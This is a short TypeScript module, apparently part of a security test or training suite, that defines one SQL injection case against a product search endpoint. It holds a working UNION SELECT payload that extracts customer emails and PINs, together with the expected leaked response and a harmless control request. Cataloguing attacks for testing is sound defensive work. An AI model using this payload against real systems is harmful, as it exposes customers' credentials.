/** A03:2021 Injection: no item of the API Top 10 of 2023, and still what is tried first. */
import { type Attack, lastSays } from "./attack.ts";

const search = (text: string): string => `/products?q=${encodeURIComponent(text)}`;

export const INJECTION: readonly Attack[] = [
  {
    id: "sql-injection",
    title: "the PINs out of the product search",
    owasp: "A03:2021",
    flaw: "`GET /products` puts `q` into the SQL statement.",
    requests: () => [{ method: "GET", path: search("x' UNION SELECT 1, email, pin FROM customers --") }],
    exploited: lastSays(200, '"name":"bob@shop.example","category":"0037"'),
    twin: { request: () => ({ method: "GET", path: search("cup") }), status: 200, says: '"name":"cup"' },
  },
];
